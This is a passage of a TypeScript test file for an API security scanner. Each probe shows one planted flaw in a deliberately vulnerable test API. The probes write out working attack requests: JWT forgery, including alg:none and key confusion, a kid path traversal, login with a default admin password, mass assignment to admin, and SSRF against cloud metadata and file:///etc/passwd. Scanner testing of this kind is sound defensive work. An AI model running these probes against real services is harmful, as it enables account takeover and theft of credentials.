// One probe per flaw: the smallest sequence of real HTTP requests that shows the weakness. The
// flaw matrix runs each probe against the vulnerable target, the hardened twin, a target with only
// that flaw on, and one with every other flaw on.

import crypto from 'node:crypto';
import { scanCertificate } from '../../electron/scanner/checks/api2-authentication/scan-certificate';
import { luhnValid, SEED } from './db';
import type { FlawId } from './flaws';
import { STANDARD_INTROSPECTION_QUERY } from './graphql';
import { SCHEMAS } from './schemas';
import type { Target, TargetOptions } from './target';
import { burst, call, type CallResult, jwtBuild, jwtParts, listen, STACK_TRACE, tlsClient } from './testing';

export interface ProbeResult {
  shown: boolean;
  /** What was seen, for the assertion message. */
  evidence: string;
}

export interface Probe {
  run(t: Target): Promise<ProbeResult>;
  /** Flaws that by their nature show the same thing (also switched off in the isolation run). */
  alsoShownBy?: FlawId[];
  /** Start options without which the flaw cannot be observed. */
  options?: Partial<TargetOptions>;
}

const r = (shown: boolean, ...evidence: unknown[]): ProbeResult => ({
  shown,
  evidence: evidence.map((e) => (typeof e === 'string' ? e : JSON.stringify(e))).join(' | '),
});
const brief = (c: CallResult) => `${c.status} ${c.text.slice(0, 160)}`;

const ALICE_ORDER = SEED.orders.alice[0];
const ALICE_DOC = SEED.documents.alice[0];
const uniq = () => crypto.randomBytes(4).toString('hex');

async function createNote(t: Target, title = `probe-${uniq()}`): Promise<string> {
  const c = await call(t, 'POST', '/api/v2/notes', { key: t.users.alice.key, body: { title, body: 'private to alice' } });
  if (c.status !== 201 && c.status !== 200) throw new Error(`note create failed: ${brief(c)}`);
  return c.json.id as string;
}

const signIn = (t: Target, username: string, password: string) => call(t, 'POST', '/api/v2/auth/login', { body: { username, password } });

const noThrottle = (results: CallResult[]) => results.every((c) => c.status !== 429 && c.headers['retry-after'] === undefined);
const statuses = (results: CallResult[]) => results.map((c) => c.status).join(',');

async function flowBurst(t: Target, send: (i: number) => Promise<CallResult>, n = 8): Promise<ProbeResult> {
  const results = await burst(n, send, 1);
  const ok = results.filter((c) => c.status >= 200 && c.status < 300).length;
  return r(noThrottle(results) && ok === n, statuses(results));
}

function forged(t: Target, edit: (h: Record<string, unknown>, p: Record<string, unknown>, sig: string) => string): string {
  const { header, payload, signature } = jwtParts(t.users.alice.key);
  return edit({ ...header }, { ...payload }, signature);
}

/** Alice's claims under a header of the probe's choosing, signed by `sign` over header.payload. */
function signedWith(t: Target, header: Record<string, unknown>, sign: (input: string) => string): string {
  const { payload } = jwtParts(t.users.alice.key);
  const input = `${Buffer.from(JSON.stringify(header)).toString('base64url')}.${Buffer.from(JSON.stringify(payload)).toString('base64url')}`;
  return `${input}.${sign(input)}`;
}

const PROBE_BOUNDARY = 'probe-boundary-1';
/** A multipart/form-data body with one file part named "file". */
function multipartFile(filename: string, type: string, content: string): string {
  return `--${PROBE_BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--${PROBE_BOUNDARY}--\r\n`;
}

/** A request without and with a delaying payload spliced in at __P__. */
async function timed(t: Target, path: string, payload: string, key: string, minMs: number): Promise<ProbeResult> {
  const base = await call(t, 'GET', path.replace('__P__', ''), { key });
  const hit = await call(t, 'GET', path.replace('__P__', encodeURIComponent(payload)), { key });
  return r(hit.ms >= minMs && hit.ms > base.ms + minMs * 0.8, `baseline ${Math.round(base.ms)} ms (${base.status}), payload ${Math.round(hit.ms)} ms (${hit.status})`);
}

export const PROBES: Record<FlawId, Probe> = {
  // ---- API1 ----
  'bola-path': {
    async run(t) {
      const c = await call(t, 'GET', `/api/v2/orders/${ALICE_ORDER}`, { key: t.users.bob.key });
      return r(c.status === 200 && c.json?.ownerId === t.users.alice.id, brief(c));
    },
  },
  'bola-query': {
    async run(t) {
      const c = await call(t, 'GET', `/api/v2/documents/download?documentId=${ALICE_DOC}`, { key: t.users.bob.key });
      return r(c.status === 200 && String(c.json?.content).includes('Alice Anderson'), brief(c));
    },
  },
  'bola-body': {
    async run(t) {
      const c = await call(t, 'POST', '/api/v2/invoices/lookup', { key: t.users.bob.key, body: { orderId: ALICE_ORDER } });
      return r(c.status === 200 && c.json?.billingName === 'Alice Anderson', brief(c));
    },
  },
  'bola-user-id': {
    async run(t) {
      const c = await call(t, 'GET', `/api/v2/users/${t.users.alice.id}/addresses`, { key: t.users.bob.key });
      return r(c.status === 200 && Array.isArray(c.json) && c.json.some((a: { line1: string }) => a.line1 === '12 Rosebank Lane'), brief(c));
    },
  },
  'bola-encoded-id': {
    async run(t) {
      const bobs = Buffer.from(String(SEED.orders.bob[0])).toString('base64');
      const c = await call(t, 'GET', `/api/v2/receipts/${encodeURIComponent(bobs)}`, { key: t.users.alice.key });
      return r(c.status === 200 && c.json?.customer?.email === t.users.bob.email, brief(c));
    },
  },
  'bola-owner-id': {
    async run(t) {
      const c = await call(t, 'GET', '/api/v2/carts/2', { key: t.users.alice.key });
      return r(c.status === 200 && c.json?.UserId === t.users.bob.id, brief(c));
    },
  },
  'bola-parent-id': {
    async run(t) {
      // alice's cart is 1, bob's 2: alice's own cartId first, bob's last.
      const c = await call(t, 'POST', '/api/v2/cart-items', { key: t.users.alice.key, raw: '{"cartId":1,"sku":"MUG-011","quantity":1,"cartId":2}' });
      return r(c.status === 201 && c.json?.cartId === 2, brief(c));
    },
  },
  'bola-body-id-update': {
    async run(t) {
      const text = `bob-tip-${uniq()}`;
      await call(t, 'PUT', '/api/v2/stores/3/tips', { key: t.users.bob.key, body: { text } });
      const list = await call(t, 'GET', '/api/v2/stores/3/tips', { key: t.users.bob.key });
      const id = (list.json?.data as { _id: string; text: string }[] | undefined)?.find((x) => x.text === text)?._id ?? '';
      const c = await call(t, 'PATCH', '/api/v2/stores/tips', { key: t.users.alice.key, body: { id, text: 'edited by alice' } });
      return r(c.status === 200 && c.json?.data?.text === 'edited by alice', brief(c));
    },
  },
  'bola-create-read': {
    async run(t) {
      const title = `alice-secret-${uniq()}`;
      const id = await createNote(t, title);
      const c = await call(t, 'GET', `/api/v2/notes/${id}`, { key: t.users.bob.key });
      return r(c.status === 200 && c.json?.title === title, brief(c));
    },
  },
  'bola-create-update': {
    async run(t) {
      const id = await createNote(t);
      const put = await call(t, 'PUT', `/api/v2/notes/${id}`, { key: t.users.bob.key, body: { title: 'changed by bob' } });
      const again = await call(t, 'GET', `/api/v2/notes/${id}`, { key: t.users.alice.key });
      return r(put.status === 200 && again.json?.title === 'changed by bob', brief(put), brief(again));
    },
  },
  'bola-create-delete': {
    async run(t) {
      const id = await createNote(t);
      const del = await call(t, 'DELETE', `/api/v2/notes/${id}`, { key: t.users.bob.key });
      const list = await call(t, 'GET', '/api/v2/notes?per_page=50', { key: t.users.alice.key });
      const gone = !list.json.items.some((n: { id: string }) => n.id === id);
      return r(del.status === 204 && gone, brief(del), `gone from alice's list: ${gone}`);
    },
  },
  'password-change-other': {
    async run(t) {
      const newPassword = `taken-over-${uniq()}`;
      const put = await call(t, 'PUT', `/api/v2/users/${t.users.carol.id}/password`, { key: t.users.bob.key, body: { newPassword } });
      const login = await signIn(t, 'carol', newPassword);
      return r(put.status === 200 && login.status === 200, brief(put), `carol signs in with bob's password: ${login.status}`);
    },
  },
  'email-change-other': {
    async run(t) {
      const email = `bob-${uniq()}@evil.example`;
      const put = await call(t, 'PUT', `/api/v2/users/${t.users.carol.id}/email`, { key: t.users.bob.key, body: { email } });
      const me = await call(t, 'GET', '/api/v2/me', { key: t.users.carol.key });
      return r(me.json?.email === email, brief(put), `carol's own profile: ${me.json?.email}`);
    },
  },

  // ---- API2 ----
  'auth-none': {
    async run(t) {
      const c = await call(t, 'GET', `/api/v2/orders/${ALICE_ORDER}`);
      return r(c.status === 200 && c.json?.id === ALICE_ORDER, brief(c));
    },
  },
  'auth-garbage': {
    async run(t) {
      const c = await call(t, 'GET', `/api/v2/orders/${ALICE_ORDER}`, { headers: { authorization: 'Bearer not-a-real-token' } });
      return r(c.status === 200 && c.json?.id === ALICE_ORDER, brief(c));
    },
  },
  'jwt-alg-none': {
    // An alg:none token has an empty signature, which the stripped-signature flaw also accepts.
    alsoShownBy: ['jwt-sig-unverified', 'jwt-sig-stripped'],
    async run(t) {
      const token = forged(t, (h, p) => jwtBuild({ ...h, alg: 'none' }, p, ''));
      const c = await call(t, 'GET', '/api/v2/me', { key: token });
      return r(c.status === 200 && c.json?.username === 'alice', brief(c));
    },
  },
  'jwt-sig-stripped': {
    alsoShownBy: ['jwt-sig-unverified'],
    async run(t) {
      const token = forged(t, (h, p) => jwtBuild(h, p, ''));
      const c = await call(t, 'GET', '/api/v2/me', { key: token });
      return r(c.status === 200 && c.json?.username === 'alice', brief(c));
    },
  },
  'jwt-sig-unverified': {
    async run(t) {
      const token = forged(t, (h, p) => jwtBuild(h, p, crypto.randomBytes(32).toString('base64url')));
      const c = await call(t, 'GET', '/api/v2/me', { key: token });
      return r(c.status === 200 && c.json?.username === 'alice', brief(c));
    },
  },
  'jwt-exp-ignored': {
    async run(t) {
      const c = await call(t, 'GET', '/api/v2/me', { key: await t.mintToken('alice', { expiresIn: -3600 }) });
      return r(c.status === 200 && c.json?.username === 'alice', brief(c));
    },
  },
  'jwt-sub-swap': {
    alsoShownBy: ['jwt-sig-unverified'],
    async run(t) {
      await call(t, 'GET', '/api/v2/me', { key: t.users.alice.key }); // the genuine token is seen first
      const token = forged(t, (h, p, sig) => jwtBuild(h, { ...p, sub: String(t.users.bob.id) }, sig));
      const c = await call(t, 'GET', '/api/v2/me', { key: token });
      return r(c.status === 200 && c.json?.username === 'bob', brief(c));
    },
  },
  'token-argument-unverified': {
    alsoShownBy: ['jwt-alg-none', 'jwt-sig-stripped', 'jwt-sig-unverified'],
    async run(t) {
      const { header, payload } = jwtParts(t.users.alice.key);
      const token = jwtBuild({ ...header, alg: 'none' }, { ...payload, sub: String(t.users.bob.id) }, '');
      const c = await call(t, 'GET', `/api/v2/account/summary?token=${token}`);
      return r(c.status === 200 && c.json?.username === 'bob', brief(c));
    },
  },
  'jwt-key-confusion': {
    alsoShownBy: ['jwt-sig-unverified'],
    async run(t) {
      const jwks = await call(t, 'GET', '/.well-known/jwks.json');
      const pem = crypto.createPublicKey({ key: (jwks.json?.keys as crypto.JsonWebKey[])[0]!, format: 'jwk' }).export({ type: 'spki', format: 'pem' }).toString();
      const c = await call(t, 'GET', '/api/v2/me', { key: signedWith(t, { alg: 'HS256', typ: 'JWT' }, (input) => crypto.createHmac('sha256', pem).update(input).digest('base64url')) });
      return r(c.status === 200 && c.json?.username === 'alice', brief(c));
    },
  },
  'jwt-kid-path': {
    alsoShownBy: ['jwt-sig-unverified'],
    async run(t) {
      const token = signedWith(t, { alg: 'HS256', typ: 'JWT', kid: '../../../../../../../../dev/null' }, (input) => crypto.createHmac('sha256', '').update(input).digest('base64url'));
      const c = await call(t, 'GET', '/api/v2/me', { key: token });
      return r(c.status === 200 && c.json?.username === 'alice', brief(c));
    },
  },
  'jwt-embedded-jwk': {
    alsoShownBy: ['jwt-sig-unverified'],
    async run(t) {
      const own = crypto.generateKeyPairSync('rsa', { modulusLength: 2048 });
      const token = signedWith(t, { alg: 'RS256', typ: 'JWT', jwk: own.publicKey.export({ format: 'jwk' }) }, (input) => crypto.sign('sha256', Buffer.from(input), own.privateKey).toString('base64url'));
      const c = await call(t, 'GET', '/api/v2/me', { key: token });
      return r(c.status === 200 && c.json?.username === 'alice', brief(c));
    },
  },
  'jwt-jku-trusted': {
    alsoShownBy: ['jwt-sig-unverified'],
    async run(t) {
      const own = crypto.generateKeyPairSync('rsa', { modulusLength: 2048 });
      const keySet = JSON.stringify({ keys: [{ ...own.publicKey.export({ format: 'jwk' }), kid: 'probe' }] });
      const l = await listen((_req, res) => {
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(keySet);
      });
      try {
        const token = signedWith(t, { alg: 'RS256', typ: 'JWT', kid: 'probe', jku: `${l.url}/jwks.json` }, (input) => crypto.sign('sha256', Buffer.from(input), own.privateKey).toString('base64url'));
        const c = await call(t, 'GET', '/api/v2/me', { key: token });
        return r(c.status === 200 && c.json?.username === 'alice', brief(c), `key set fetched ${l.hits.length} times`);
      } finally {
        await l.close();
      }
    },
  },
  'jwt-x5c': {
    alsoShownBy: ['jwt-sig-unverified'],
    async run(t) {
      const own = crypto.generateKeyPairSync('rsa', { modulusLength: 2048 });
      const cert = await scanCertificate(own);
      const token = signedWith(t, { alg: 'RS256', typ: 'JWT', x5c: [cert.x5c] }, (input) => crypto.sign('sha256', Buffer.from(input), own.privateKey).toString('base64url'));
      const c = await call(t, 'GET', '/api/v2/me', { key: token });
      return r(c.status === 200 && c.json?.username === 'alice', brief(c));
    },
  },
  'jwt-x5u': {
    alsoShownBy: ['jwt-sig-unverified'],
    async run(t) {
      const own = crypto.generateKeyPairSync('rsa', { modulusLength: 2048 });
      const cert = await scanCertificate(own);
      const l = await listen((_req, res) => {
        res.writeHead(200, { 'content-type': 'application/pem-certificate-chain' });
        res.end(cert.pem);
      });
      try {
        const token = signedWith(t, { alg: 'RS256', typ: 'JWT', x5u: `${l.url}/cert.pem` }, (input) => crypto.sign('sha256', Buffer.from(input), own.privateKey).toString('base64url'));
        const c = await call(t, 'GET', '/api/v2/me', { key: token });
        return r(c.status === 200 && c.json?.username === 'alice', brief(c), `certificate fetched ${l.hits.length} times`);
      } finally {
        await l.close();
      }
    },
  },
  'login-no-throttle': {
    async run(t) {
      const results = await burst(8, (i) => call(t, 'POST', '/api/v2/auth/login', { body: { username: 'alice', password: `wrong-${i}` } }), 1);
      return r(noThrottle(results) && results.every((c) => c.status === 401), statuses(results));
    },
  },
  'login-user-enumeration': {
    async run(t) {
      const unknown = await call(t, 'POST', '/api/v2/auth/login', { body: { username: `nobody_${uniq()}`, password: 'wrong-password-1' } });
      const known = await call(t, 'POST', '/api/v2/auth/login', { body: { username: 'bob', password: 'wrong-password-2' } });
      return r(unknown.status === 401 && known.status === 401 && unknown.text !== known.text, brief(unknown), brief(known));
    },
  },
  'login-unknown-user-error': {
    async run(t) {
      const unknown = await call(t, 'POST', '/api/v2/mobile/login', { body: { username: `nobody_${uniq()}`, password: 'wrong-password-1' } });
      const known = await burst(8, (i) => call(t, 'POST', '/api/v2/mobile/login', { body: { username: 'bob', password: `wrong-${i}` } }), 1);
      return r(unknown.status === 500 && noThrottle(known) && known.every((c) => c.status === 401), brief(unknown), statuses(known));
    },
  },
  'verification-code-no-throttle': {
    async run(t) {
      const tries = await burst(8, (i) => call(t, 'POST', '/api/v2/auth/verify-email', { body: { email: t.users.carol.email, code: String(100000 + i) } }), 1);
      return r(noThrottle(tries) && tries.every((c) => c.status === 400), statuses(tries));
    },
  },
  'reset-no-throttle': {
    async run(t) {
      const asks = await burst(6, () => call(t, 'POST', '/api/v2/auth/password-reset', { body: { email: t.users.alice.email } }), 1);
      const tries = await burst(8, () => call(t, 'POST', '/api/v2/auth/password-reset/confirm', { body: { token: crypto.randomBytes(24).toString('base64url'), newPassword: 'another-long-password' } }), 1);
      return r(noThrottle(asks) && noThrottle(tries), `requests ${statuses(asks)}`, `confirms ${statuses(tries)}`);
    },
  },
  'key-in-query': {
    async run(t) {
      const a = await call(t, 'GET', `/api/v2/me?access_token=${t.users.alice.key}`);
      const b = await call(t, 'GET', `/api/v2/me?api_key=${t.users.alice.apiKey}`);
      return r(a.status === 200 && b.status === 200 && a.json?.username === 'alice', brief(a), brief(b));
    },
  },
  'token-in-response': {
    async run(t) {
      const c = await call(t, 'POST', '/api/v2/auth/password-reset', { body: { email: t.users.alice.email } });
      const token = c.json?.resetToken;
      if (typeof token !== 'string') return r(false, brief(c));
      const use = await call(t, 'POST', '/api/v2/auth/password-reset/confirm', { body: { token, newPassword: 'taken-over-password' } });
      return r(use.status === 200, brief(c), brief(use));
    },
  },
  'password-change-no-current': {
    async run(t) {
      const newPassword = `no-current-${uniq()}`;
      const put = await call(t, 'PUT', '/api/v2/me/password', { key: t.users.alice.key, body: { newPassword } });
      const login = await signIn(t, 'alice', newPassword);
      return r(put.status === 200 && login.status === 200, brief(put), `sign-in with the new password: ${login.status}`);
    },
  },

  'cloud-key-in-answer': {
    async run(t) {
      const c = await call(t, 'GET', '/api/v2/exports/storage', { key: t.users.alice.key });
      return r(c.status === 200 && /AKIA[0-9A-Z]{16}:/.test(String(c.json?.connection)), brief(c));
    },
  },
  'sms-login-code-no-throttle': {
    async run(t) {
      const ask = await call(t, 'POST', '/api/v2/auth/sms-login', { body: { phone: '+1 415 555 0142' } });
      const sent = t.outbox.at(-1)?.body.match(/\b(\d{4})\b/)?.[1] ?? '';
      const wrong = String((Number(sent) + 1) % 10_000).padStart(4, '0');
      const tries = await burst(8, () => call(t, 'POST', '/api/v2/auth/sms-login/verify', { body: { otp: wrong } }), 1);
      const right = await call(t, 'POST', '/api/v2/auth/sms-login/verify', { body: { otp: sent } });
      return r(ask.status === 202 && noThrottle(tries) && tries.every((c) => c.status === 401) && right.status === 200, `ask ${ask.status}`, statuses(tries), `right code ${right.status}`);
    },
  },
  'password-change-over-get': {
    async run(t) {
      const next = `over-get-${uniq()}`;
      const get = await call(t, 'GET', `/api/v2/account/change-password?new=${next}&repeat=${next}`, { key: t.users.alice.key });
      const login = await signIn(t, 'alice', next);
      return r(get.status === 200 && login.status === 200, brief(get), `sign-in with the new password: ${login.status}`);
    },
  },
  'default-admin-password': {
    async run(t) {
      const c = await signIn(t, 'admin', 'changeme');
      return r(c.status === 200 && typeof c.json?.accessToken === 'string', brief(c));
    },
  },

  // ---- API3 ----
  'mass-assign-privilege': {
    async run(t) {
      const patch = await call(t, 'PATCH', '/api/v2/me', { key: t.users.bob.key, body: { role: 'admin', credits: 99999 } });
      const me = await call(t, 'GET', '/api/v2/me', { key: t.users.bob.key });
      const admin = await call(t, 'GET', '/api/v2/admin/stats', { key: t.users.bob.key });
      return r(me.json?.role === 'admin' && me.json?.credits === 99999 && admin.status === 200, brief(patch), brief(me), `admin/stats ${admin.status}`);
    },
  },
  'signup-mass-assignment': {
    async run(t) {
      const username = `probe_${uniq()}`;
      const password = 'a-long-enough-password';
      const signup = await call(t, 'POST', '/api/v2/auth/signup', { body: { username, email: `${username}@example.com`, password, role: 'admin', isAdmin: true } });
      if (signup.status !== 201) return r(false, brief(signup));
      const key = (await signIn(t, username, password)).json?.accessToken as string;
      const me = await call(t, 'GET', '/api/v2/me', { key });
      const admin = await call(t, 'GET', '/api/v2/admin/users', { key });
      return r(me.json?.role === 'admin' && me.json?.isAdmin === true && admin.status === 200, brief(signup), brief(me), `admin/users ${admin.status}`);
    },
  },
  'signup-confirmation-ignored': {
    async run(t) {
      const username = `probe_${uniq()}`;
      const password = 'a-long-enough-password';
      const signup = await call(t, 'POST', '/api/v2/auth/signup', { body: { username, email: `${username}@example.com`, password, passwordConfirmation: 'something-else-entirely' } });
      if (signup.status !== 201) return r(false, brief(signup));
      const login = await signIn(t, username, password);
      return r(login.status === 200, brief(signup), `login ${login.status}`);
    },
  },
  'mass-assign-readonly': {
    async run(t) {
      const c = await call(t, 'POST', '/api/v2/orders', { key: t.users.alice.key, body: { items: [{ productId: 12, quantity: 1 }], status: 'delivered', total: 0.01 } });
      const again = c.json?.id ? await call(t, 'GET', `/api/v2/orders/${c.json.id}`, { key: t.users.alice.key }) : c;
      return r(again.json?.status === 'delivered' && again.json?.total === 0.01, brief(c));
    },
  },
  'exposure-undeclared': {
    async run(t) {
      const c = await call(t, 'GET', `/api/v2/orders/${ALICE_ORDER}`, { key: t.users.alice.key });
      const declared = Object.keys(SCHEMAS.Order.properties ?? {});
      const extra = Object.keys(c.json ?? {}).filter((k) => !declared.includes(k));
      return r(c.status === 200 && extra.length > 0, `undeclared: ${extra.join(',') || 'none'}`);
    },
  },
  'exposure-password-hash': {
    async run(t) {
      const c = await call(t, 'GET', '/api/v2/me', { key: t.users.alice.key });
      return r(/^\$scrypt\$/.test(String(c.json?.password_hash)), brief(c));
    },
  },
  'exposure-api-key': {
    async run(t) {
      const c = await call(t, 'GET', '/api/v2/me', { key: t.users.alice.key });
      return r(c.json?.api_key === t.users.alice.apiKey, brief(c));
    },
  },
  'exposure-card-number': {
    async run(t) {
      const c = await call(t, 'GET', '/api/v2/payment-methods', { key: t.users.alice.key });
      const pans = (Array.isArray(c.json) ? c.json : []).map((p: { cardNumber?: string }) => p.cardNumber).filter((n: unknown): n is string => typeof n === 'string');
      return r(pans.some((n: string) => /^\d{16}$/.test(n) && luhnValid(n)), brief(c));
    },
  },
  'exposure-private-key': {
    async run(t) {
      const c = await call(t, 'GET', '/api/v2/integrations', { key: t.users.alice.key });
      return r(c.text.includes('-----BEGIN PRIVATE KEY-----'), brief(c));
    },
  },
  'token-claims-secret': {
    async run(t) {
      const c = await signIn(t, 'alice', t.users.alice.password);
      const claims = typeof c.json?.accessToken === 'string' ? jwtParts(c.json.accessToken).payload : {};
      return r(c.status === 200 && /^\$scrypt\$/.test(String(claims.pwdHash)), brief(c), Object.keys(claims).join(','));
    },
  },

  // ---- API4 ----
  'page-size-unbounded': {
    async run(t) {
      const products = await call(t, 'GET', '/api/v2/products?limit=1000');
      const reviews = await call(t, 'GET', '/api/v2/products/1/reviews?page_size=500');
      const activity = await call(t, 'GET', '/api/v2/activity?per_page=500', { key: t.users.alice.key });
      const n = (c: CallResult) => (Array.isArray(c.json?.items) ? c.json.items.length : -c.status);
      return r(n(products) > 100 && n(reviews) > 50 && n(activity) > 50, `products ${n(products)}, reviews ${n(reviews)}, activity ${n(activity)}`);
    },
  },
  'no-rate-limit': {
    async run(t) {
      const results = await burst(120, () => call(t, 'GET', '/api/v2/me', { key: t.users.alice.key }), 8);
      const headers = results.some((c) => Object.keys(c.headers).some((h) => h.startsWith('ratelimit') || h.startsWith('x-ratelimit')));
      return r(noThrottle(results) && !headers, `429s: ${results.filter((c) => c.status === 429).length}, rate headers: ${headers}`);
    },
  },
  'size-limits-ignored': {
    async run(t) {
      const title = `${'t'.repeat(1200)}-${uniq()}`;
      const note = await call(t, 'POST', '/api/v2/notes', { key: t.users.alice.key, body: { title, tags: Array.from({ length: 40 }, (_, i) => `tag${i}`) } });
      const order = await call(t, 'POST', '/api/v2/orders', { key: t.users.alice.key, body: { items: [{ productId: 12, quantity: 500 }] } });
      return r(note.status < 300 && note.json?.title === title && order.status === 201 && order.json?.items?.[0]?.quantity === 500, `note ${note.status}, order ${brief(order)}`);
    },
  },
  'size-limit-500': {
    async run(t) {
      const c = await call(t, 'PATCH', '/api/v2/me', { key: t.users.alice.key, body: { displayName: 'x'.repeat(300) } });
      return r(c.status >= 500, brief(c));
    },
  },
  'slow-oversize': {
    async run(t) {
      const base = await call(t, 'GET', '/api/v2/products/search?q=cookbook');
      const big = await call(t, 'GET', `/api/v2/products/search?q=${'cookbook'.repeat(250)}`);
      return r(big.status === 200 && big.ms > base.ms + 300 && big.ms > 3 * base.ms, `baseline ${Math.round(base.ms)} ms, 2000 chars ${Math.round(big.ms)} ms (${big.status})`);
    },
  },
  'regex-backtracking': {
    async run(t) {
      const reset = (email: string) => call(t, 'POST', '/api/v2/auth/password-reset', { body: { email } });
      const short = await reset(`${'a'.repeat(20)}!`);
      const long = await reset(`${'a'.repeat(30)}!`);
      return r(long.status === 400 && long.ms > short.ms + 200, `20 letters ${Math.round(short.ms)} ms, 30 letters ${Math.round(long.ms)} ms (${long.status})`);
    },
  },

  // ---- API5 ----
  'bfla-admin': {
    async run(t) {
      const c = await call(t, 'GET', '/api/v2/admin/users', { key: t.users.bob.key });
      return r(c.status === 200 && Array.isArray(c.json) && c.json.length >= 4, brief(c));
    },
  },
  'method-swap': {
    async run(t) {
      const order = await call(t, 'POST', '/api/v2/orders', { key: t.users.alice.key, body: { items: [{ productId: 12, quantity: 1 }] } });
      const patch = await call(t, 'PATCH', `/api/v2/orders/${order.json.id}`, { key: t.users.alice.key, body: { status: 'delivered' } });
      const del = await call(t, 'DELETE', `/api/v2/orders/${order.json.id}`, { key: t.users.alice.key });
      const after = await call(t, 'GET', `/api/v2/orders/${order.json.id}`, { key: t.users.alice.key });
      return r(patch.status === 200 && del.status === 204 && after.status === 404, `PATCH ${patch.status}, DELETE ${del.status}, GET after ${after.status}`);
    },
  },
  'admin-path-variants': {
    async run(t) {
      const a = await call(t, 'GET', '/admin/orders');
      const b = await call(t, 'GET', '/api/v2/admin/orders', { key: t.users.bob.key });
      return r(a.status === 200 && b.status === 200 && a.json?.count >= 8, brief(a), brief(b));
    },
  },
  'user-directory': {
    async run(t) {
      const c = await call(t, 'GET', '/api/v2/members', { key: t.users.bob.key });
      const alice = (c.json?.items ?? []).find((m: { username?: string }) => m.username === t.users.alice.username);
      return r(c.status === 200 && alice?.email === t.users.alice.email, brief(c));
    },
  },
  'declared-privilege-header': {
    async run(t) {
      const made = await call(t, 'POST', '/api/v2/bulletins', { key: t.users.alice.key, body: { text: `Bulletin ${uniq()}` } });
      const path = `/api/v2/bulletins/${made.json?.id}`;
      const plain = await call(t, 'DELETE', path, { key: t.users.bob.key });
      const claimed = await call(t, 'DELETE', path, { key: t.users.bob.key, headers: { 'X-Is-Moderator': 'true' } });
      const after = await call(t, 'GET', path);
      return r(plain.status === 403 && claimed.status === 204 && after.status === 404, brief(plain), brief(claimed), brief(after));
    },
  },
  'trusted-client-ip': {
    async run(t) {
      const plain = await call(t, 'GET', '/api/v2/admin/users');
      const spoofed = await call(t, 'GET', '/api/v2/admin/users', { headers: { 'x-forwarded-for': '127.0.0.1' } });
      return r(plain.status === 401 && spoofed.status === 200 && Array.isArray(spoofed.json) && spoofed.json.length >= 4, brief(plain), brief(spoofed));
    },
  },
  'account-delete-other': {
    async run(t) {
      const del = await call(t, 'DELETE', `/api/v2/users/${t.users.carol.id}`, { key: t.users.bob.key });
      const login = await signIn(t, 'carol', t.users.carol.password);
      return r(del.status === 204 && login.status === 401, brief(del), `carol signs in: ${login.status}`);
    },
  },
  'unauth-reset': {
    async run(t) {
      const id = await createNote(t);
      const reset = await call(t, 'GET', '/api/v2/maintenance/reset');
      const after = await call(t, 'GET', `/api/v2/notes/${id}`, { key: t.users.alice.key });
      return r(reset.status === 200 && after.status === 404, brief(reset), `note after: ${after.status}`);
    },
  },

  // ---- API6 ----
  'reservation-quantity': {
    async run(t) {
      const c = await call(t, 'POST', '/api/v2/reservations', { key: t.users.alice.key, body: { productId: 3, quantity: -2 } });
      return r(c.status === 201 && c.json?.quantity === -2, brief(c));
    },
  },
  'negative-quantity': {
    async run(t) {
      const c = await call(t, 'POST', '/api/v2/orders', { key: t.users.alice.key, body: { items: [{ productId: 12, quantity: -2 }] } });
      return r(c.status === 201 && c.json?.items?.[0]?.quantity === -2 && c.json?.total < 0, brief(c));
    },
  },
  'flow-checkout': {
    async run(t) {
      const checkout = await flowBurst(t, () => call(t, 'POST', '/api/v2/checkout', { key: t.users.alice.key, body: { items: [{ productId: 12, quantity: 1 }], paymentMethodId: SEED.paymentMethods.alice } }));
      const orders = await flowBurst(t, () => call(t, 'POST', '/api/v2/orders', { key: t.users.alice.key, body: { items: [{ productId: 12, quantity: 1 }] } }));
      return r(checkout.shown && orders.shown, `checkout ${checkout.evidence}`, `orders ${orders.evidence}`);
    },
  },
  'flow-transfer': {
    run: (t) => flowBurst(t, () => call(t, 'POST', '/api/v2/transfers', { key: t.users.alice.key, body: { to: 'carol', amount: 1 } })),
  },
  'flow-vote': {
    run: (t) => flowBurst(t, () => call(t, 'POST', '/api/v2/products/12/votes', { key: t.users.alice.key, body: { direction: 'up' } })),
  },
  'flow-comment': {
    run: (t) => flowBurst(t, (i) => call(t, 'POST', '/api/v2/products/12/reviews', { key: t.users.alice.key, body: { rating: 5, comment: `Great ${i}` } })),
  },
  'flow-signup': {
    run: (t) => {
      const tag = uniq();
      // The scanner's burst size: the hardened limit (8) leaves room for the users a scan registers.
      return flowBurst(t, (i) => call(t, 'POST', '/api/v2/auth/signup', { body: { username: `probe_${tag}_${i}`, email: `probe_${tag}_${i}@example.com`, password: 'a-long-enough-password' } }), 10);
    },
  },
  'flow-otp': {
    async run(t) {
      const sends = await burst(8, () => call(t, 'POST', '/api/v2/auth/otp/send', { key: t.users.alice.key }), 1);
      const verifies = await burst(8, () => call(t, 'POST', '/api/v2/auth/otp/verify', { key: t.users.alice.key, body: { code: '000000' } }), 1);
      return r(noThrottle(sends) && noThrottle(verifies), `send ${statuses(sends)}`, `verify ${statuses(verifies)}`);
    },
  },

  // ---- API7 ----
  ssrf: {
    async run(t) {
      const l = await listen();
      try {
        const token = uniq();
        const c = await call(t, 'POST', '/api/v2/link-preview', { key: t.users.alice.key, body: { url: `${l.url}/cb/${token}` } });
        const self = await call(t, 'POST', '/api/v2/link-preview', { key: t.users.alice.key, body: { url: `${t.url}/` } });
        const meta = await call(t, 'POST', '/api/v2/link-preview', { key: t.users.alice.key, body: { url: 'http://169.254.169.254/latest/meta-data/' } });
        const attempted = t.outbound.count((o) => o.url.startsWith('http://169.254.169.254/') && o.outcome === 'egress-blocked');
        const hit = l.hits.some((h) => h.url === `/cb/${token}`);
        return r(hit && c.status === 200 && String(self.json?.snippet).includes('Acme Shop API') && attempted === 1, brief(c), brief(self), `metadata ${meta.status}, attempted ${attempted}`);
      } finally {
        await l.close();
      }
    },
  },
  'ssrf-file': {
    async run(t) {
      const c = await call(t, 'POST', '/api/v2/link-preview', { key: t.users.alice.key, body: { url: 'file:///etc/passwd' } });
      return r(c.status === 200 && String(c.json?.snippet).includes('root:'), brief(c));
    },
  },
  'ssrf-encoded': {
    async run(t) {
      const c = await call(t, 'POST', '/api/v2/link-archive', { key: t.users.alice.key, body: { url: `${t.url}/` } });
      const content = typeof c.json?.content === 'string' ? Buffer.from(c.json.content, 'base64').toString('utf8') : '';
